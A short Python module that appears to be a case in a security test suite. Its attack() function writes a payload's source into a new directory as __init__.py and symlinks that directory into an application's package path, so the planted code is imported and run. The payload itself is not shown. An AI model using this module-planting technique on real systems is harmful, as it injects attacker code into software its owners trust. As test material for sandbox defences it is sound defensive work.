"""A directory with a module in it is linked into the application's."""
CATEGORY = "forging"
REACH = "run"
POLICIES = "baseline"
RUNS = 2

import os

from . import payload


def attack():
    directory = payload.ROOT + "/home/helper"
    os.mkdir(directory)
    with open(directory + "/__init__.py", "w") as file:
        file.write(payload.SOURCE)
    os.symlink(directory, payload.ROOT + "/app/helper")
